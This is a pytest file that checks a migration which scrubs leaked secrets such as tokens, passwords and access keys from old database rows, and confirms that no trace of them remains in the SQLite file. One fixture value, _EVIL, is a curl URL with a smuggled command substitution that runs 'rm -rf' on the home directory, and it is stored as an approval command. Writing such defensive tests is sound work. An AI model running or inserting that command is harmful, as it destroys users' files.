"""What an older version stored with secrets in it is cleaned after a start, and nothing of it stays in the file."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import col, delete, select

from maestro import secrets
from maestro.core.brainstorm.replies import add_message
from maestro.core.commands.sessions import NewSession, create_session
from maestro.core.kernel.runtime import Runtime, open_runtime
from maestro.core.supervisor import old_words
from maestro.db import models
from maestro.db.keeping import Fact
from maestro.secrets import HIDDEN
from maestro.settings import LoadedSettings
from tests.engine import Engine
from tests.repos import make_repo

_TOLD = "told-word-for-word_9xT2bZk4mVw8sRy1"
_SHAPE = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
_SAID = f"key {_TOLD} token {_SHAPE} at https://ann:pa55word-of-old@example.com"
_EVIL = f"curl https://a:$(rm${{IFS}}-rf${{IFS}}~)@host/{_SHAPE}"
_FORMS = (_TOLD, _SHAPE, "pa55word-of-old")


@pytest.fixture(autouse=True)
def forget() -> Iterator[None]:
    yield
    for source in ("settings", "environment", "token"):
        secrets.register(source, [])


def _opened(tmp_path: Path) -> Runtime:
    flags: dict[str, Any] = {"data_dir": tmp_path / "data", "assistant": "demo"}
    return open_runtime(LoadedSettings(flags=flags, environment={"AWS_SECRET_ACCESS_KEY": _TOLD}, dotenv=None))


def _old(tmp_path: Path, logs: int) -> Runtime:
    """A data folder as an older version left it, opened by today's."""
    rt = _opened(tmp_path)
    session = create_session(rt, NewSession(description="x", repo_path=str(make_repo(tmp_path / "repo", {"a": "b"}))))
    with rt.db.write() as tx:
        add_message(tx, session.id, "user", "x")
        for status, kind in (("allowed", "tool"), ("pending", "tool"), ("denied", "infrastructure")):
            detail = {"command": "x", "reason": "x"}
            tx.db.add(models.Approval(session_id=session.id, kind=kind, title="x", status=status, detail=detail))
        tx.logs([{"session_id": session.id, "message": "x", "kind": "text"} for _ in range(logs)])
        tx.emit("notification", session.id, text="x")
    rt.db.close()
    raw = sqlite3.connect(tmp_path / "data/maestro.db")
    raw.execute("UPDATE sessions SET description = ?, idea_card = ?", (_SAID, json.dumps({"goals": [_SAID]})))
    raw.execute("UPDATE messages SET content = ?", (_SAID,))
    raw.execute("UPDATE agent_logs SET message = ?, metadata = ?", (_SAID, json.dumps({"k": [_SAID]})))
    raw.execute("UPDATE events SET payload = ? WHERE type = 'notification'", (json.dumps({"text": _SAID}),))
    raw.execute("UPDATE approvals SET detail = ?", (json.dumps({"command": _EVIL, "reason": _SAID}),))
    raw.commit()
    raw.close()
    return _opened(tmp_path)


def _everything(rt: Runtime) -> str:
    rt.jobs.stop()
    rt.db.close()
    return "\n".join(p.read_bytes().decode("utf-8", "replace") for p in rt.data_dir.glob("maestro.db*"))


def test_old_rows_are_cleaned_and_the_file_forgets(tmp_path: Path) -> None:
    rt = _old(tmp_path, logs=450)
    old_words.clean(rt)
    with rt.db.read() as db:
        approvals = {a.status: a for a in db.exec(select(models.Approval)).all()}
        assert [HIDDEN in row.message for row in db.exec(select(models.AgentLog)).all()] == [True] * 450
        assert db.exec(select(models.Message)).one().content.count(HIDDEN) == 3
    assert approvals["allowed"].detail["command"] == _EVIL.replace(_SHAPE, HIDDEN), (
        "what could do something stays to be seen"
    )
    assert approvals["denied"].detail["reason"].count(HIDDEN) == 3
    assert approvals["pending"].detail["reason"] == _SAID, "an open question is compared with its answer"
    rt.db.erase(
        delete(models.Approval).where(col(models.Approval.status) != "allowed")
    )  # the other's command is acted on
    left = _everything(rt)
    assert [form for form in _FORMS if form in left] == []


def test_it_goes_on_where_it_was_stopped_and_is_done_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rt = _old(tmp_path, logs=450)
    portions: list[str] = []
    whole = old_words._portion

    def one(rt: Runtime, table: Any, at: Any) -> Any:
        portions.append(f"{table.name} {at}")
        if len(portions) == 2:
            rt.jobs.stopping.set()
        return whole(rt, table, at)

    monkeypatch.setattr(old_words, "_portion", one)
    old_words.clean(rt)
    assert len(portions) == 2
    rt.jobs.stopping.clear()
    old_words.clean(rt)
    assert len(set(portions)) == len(portions), "nothing is looked at twice"
    count = len(portions)
    old_words.clean(rt)
    assert len(portions) == count, "it is done once"
    with rt.db.write() as tx:
        tx.db.add(Fact(name="another"))
    _everything(rt)


def test_the_start_of_the_app_does_it(tmp_path: Path) -> None:
    started = Engine(tmp_path / "data", None)
    assert started.rt.jobs.wait_for(["old words"], 60)
    with started.rt.db.read() as db:
        kept = db.get(Fact, "words_cleaned")
    started.close()
    assert kept is not None
    assert set(kept.value["tables"].values()) == {"end"}
    assert {"agent_logs", "approvals", "check_runs", "events", "messages", "sessions", "tasks"} <= kept.value[
        "tables"
    ].keys()
